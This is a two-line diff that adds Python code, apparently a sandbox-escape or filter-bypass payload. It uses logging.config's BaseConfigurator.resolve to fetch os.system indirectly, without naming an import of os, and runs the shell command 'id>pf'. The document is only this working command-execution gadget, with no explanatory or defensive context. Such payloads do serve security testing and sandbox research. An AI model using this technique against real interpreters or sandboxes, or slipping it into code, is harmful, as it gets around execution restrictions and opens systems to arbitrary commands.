@@ -1,0 +1,2 @@
+import logging.config as c
+c.BaseConfigurator({}).resolve("os.system")("id>pf")
